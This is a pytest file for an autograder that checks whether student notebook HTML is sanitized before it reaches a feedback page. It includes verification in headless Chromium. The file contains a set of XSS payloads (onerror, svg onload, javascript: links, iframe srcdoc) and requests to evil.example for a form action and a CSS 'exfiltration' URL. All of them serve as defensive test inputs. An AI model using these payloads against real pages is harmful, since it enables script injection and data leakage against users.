"""Feedback HTML: the submission's own HTML is made inert, the page may run and load nothing, long lines wrap.

Each hostile cell below is something a student can put in a notebook that nbconvert passes into the feedback
page as it is (markdown cells are HTML, and saved ``text/html`` outputs too); its honest twin is a markdown
cell with a link, a table, an embedded image and code, which must come through.  The page is checked as HTML,
and, where Chromium is installed, opened in it: no script may run (each would mark the page) and no frame load.
"""

from __future__ import annotations

import base64
import re
import subprocess
import tempfile
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert import HTMLExporter

from autograder.feedback_html import CONTENT_SECURITY_POLICY, MARKER, finish_feedback_page, finish_feedback_pages

from built_html import NO_CHROMIUM, chromium  # the book's page tests' browser helper

HOSTILE_TEXT = "// </pre><script>alert('x')</script> " + "y[i] = alpha * x[i] + y[i]; " * 20
#: Each marks the page (the document's title, or an element) when its script runs.
MARK = "document.title='PWNED'"
HOSTILE_MARKDOWN = {
    "img_onerror": f'<img src="x" onerror="{MARK}">',
    "iframe_srcdoc": f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    "script": f"<script>{MARK}</script>",
    "svg_onload": f'<svg onload="{MARK}"><circle r="5"/></svg>',
    "javascript_link": f'<a id="jslink" href="javascript:{MARK}">click</a>',
    "details_ontoggle": f'<details open ontoggle="{MARK}"><summary>x</summary>y</details>',
    "object_data": '<object data="data:text/html,<script>parent.document.title=1</script>"></object>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base_and_form": '<base href="https://evil.example/"><form action="https://evil.example/"><input name=a></form>',
    "style_exfiltration": '<style>body { background: url(https://evil.example/leak) }</style>',
    "closing_the_body": f"</body></html><script>{MARK}</script>",
}
HOSTILE_OUTPUT_HTML = f'<div><img src=x onerror="{MARK}"><script>{MARK}</script></div>'
PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201"
    "0e1e0bb60000000049454e44ae426082")).decode()
HONEST_MARKDOWN = (f'# My notes\n\nSee [the book](https://example.org/book#ch1) and the table:\n\n| n | ms |\n|---|---|\n'
                   f'| 1 | 2 |\n\n<img alt="plot" src="data:image/png;base64,{PNG}">\n\n`y[i] = a * x[i]`\n')


def _page(markdown: list[str], output_html: str | None = None) -> str:
    nb = nbformat.v4.new_notebook()
    nb.cells += [nbformat.v4.new_markdown_cell(text) for text in markdown]
    cell = nbformat.v4.new_code_cell("grade('saxpy')")
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="hint: " + HOSTILE_TEXT + "\n")]
    if output_html is not None:
        cell.outputs.append(nbformat.v4.new_output("display_data", data={"text/html": output_html}))
    nb.cells.append(cell)
    body, _ = HTMLExporter(template_name="lab").from_notebook_node(nb)
    return body


def _inert(page: str) -> list[str]:
    """Everything in ``page`` that could run or load: script, frames, objects, forms, event handlers, links that
    are no plain link, images that are no embedded image, a base or a refresh."""
    soup = BeautifulSoup(page, "html.parser")
    found = [t.name for t in soup.find_all(["script", "iframe", "frame", "object", "embed", "form", "base", "svg",
                                            "link", "style"]) if not (t.name == "style" and t.parent.name == "head")]
    found += [t.get("http-equiv") for t in soup.find_all("meta") if (t.get("http-equiv") or "").lower() == "refresh"]
    for tag in soup.find_all(True):
        found += [f"{tag.name}[{name}]" for name in tag.attrs if name.lower().startswith("on")]
        href, src = tag.get("href"), tag.get("src")
        if href and not re.match(r"^(https?://|mailto:|#)", href):
            found.append(f"{tag.name}[href={href[:30]}]")
        if src and not src.startswith("data:image/png;base64,"):
            found.append(f"{tag.name}[src={src[:30]}]")
    return found


@pytest.mark.parametrize("name", sorted(HOSTILE_MARKDOWN))
def test_a_student_s_markdown_cannot_put_script_or_frames_into_the_feedback_page(name):
    raw = _page([HOSTILE_MARKDOWN[name]])
    assert len(_inert(raw)) > len(_inert(_page([]))), "the cell put nothing live on nbconvert's page: this test would prove nothing"
    page = finish_feedback_page(raw)
    assert _inert(page) == [], _inert(page)


def test_a_saved_html_output_is_made_inert_too():
    page = finish_feedback_page(_page([], output_html=HOSTILE_OUTPUT_HTML))
    assert _inert(page) == []


def test_the_honest_twin_keeps_its_link_table_image_and_code():
    page = finish_feedback_page(_page([HONEST_MARKDOWN]))
    soup = BeautifulSoup(page, "html.parser")
    assert soup.find("a", href="https://example.org/book#ch1")
    assert soup.find("table") and soup.find("td", string="2")
    assert soup.find("img", alt="plot")["src"].startswith("data:image/png;base64,")
    assert soup.find("code", string="y[i] = a * x[i]")
    assert _inert(page) == []


def test_the_page_carries_a_policy_that_allows_no_script_no_frame_and_no_request():
    page = finish_feedback_page(_page([HONEST_MARKDOWN]))
    head = page[: page.lower().index("</head>")]
    meta = BeautifulSoup(head, "html.parser").find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert meta is not None and meta["content"] == CONTENT_SECURITY_POLICY
    policy = dict(part.strip().split(" ", 1) for part in CONTENT_SECURITY_POLICY.split(";"))
    assert policy["default-src"] == policy["script-src"] == policy["frame-src"] == "'none'"
    assert head.index("Content-Security-Policy") < head.index("<title>")  # before anything the page loads


def test_student_text_is_escaped_and_long_lines_wrap(tmp_path):
    page = _page([])
    assert "<script>alert(" not in page and "&lt;script&gt;alert(" in page
    folder = tmp_path / "feedback" / "ada" / "a1"
    folder.mkdir(parents=True)
    (folder / "nb.html").write_text(page)
    [path] = finish_feedback_pages(str(tmp_path / "feedback" / "*" / "a1"))
    finished = open(path).read()
    head = finished[: finished.lower().index("</head>")]
    assert MARKER in head and "white-space: pre-wrap" in head
    assert "&lt;script&gt;alert(" in finished  # still text
    assert finish_feedback_page(finished).count(MARKER) == 1  # once, however often it is finished


# ------------------------------------------------------------------ in a browser
def _opened(page: str) -> str:
    """The DOM Chromium builds from ``page`` after its scripts (if any) had 3 s of virtual time to run."""
    with tempfile.TemporaryDirectory(prefix="feedback-page-") as folder:
        path = Path(folder) / "feedback.html"
        path.write_text(page, encoding="utf-8")
        with tempfile.TemporaryDirectory(prefix="chromium-profile-") as profile:
            done = subprocess.run(
                [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                 f"--user-data-dir={profile}", "--proxy-server=127.0.0.1:9", "--host-resolver-rules=MAP * ~NOTFOUND",
                 "--virtual-time-budget=3000", "--dump-dom", path.as_uri()],
                capture_output=True, text=True, timeout=120)
    assert "<body" in done.stdout, done.stderr[-800:]
    return done.stdout


@pytest.mark.skipif(chromium() is None, reason=NO_CHROMIUM)
def test_in_a_browser_no_script_of_the_student_s_runs_and_no_frame_loads():
    """Every hostile cell at once, opened in Chromium: the page's title stays, no frame exists.  The same cells on
    nbconvert's page as nbgrader wrote it (the twin that shows the test can fail) do run."""
    hostile = [HOSTILE_MARKDOWN[name] for name in sorted(HOSTILE_MARKDOWN)]
    raw = _page(hostile, output_html=HOSTILE_OUTPUT_HTML)
    assert "PWNED" in BeautifulSoup(_opened(raw), "html.parser").title.get_text(), \
        "the hostile cells do not run even unsanitized: this test would prove nothing"
    dom = BeautifulSoup(_opened(finish_feedback_page(raw)), "html.parser")
    assert "PWNED" not in dom.title.get_text()
    assert not dom.find_all(["iframe", "frame", "object", "embed", "script"])
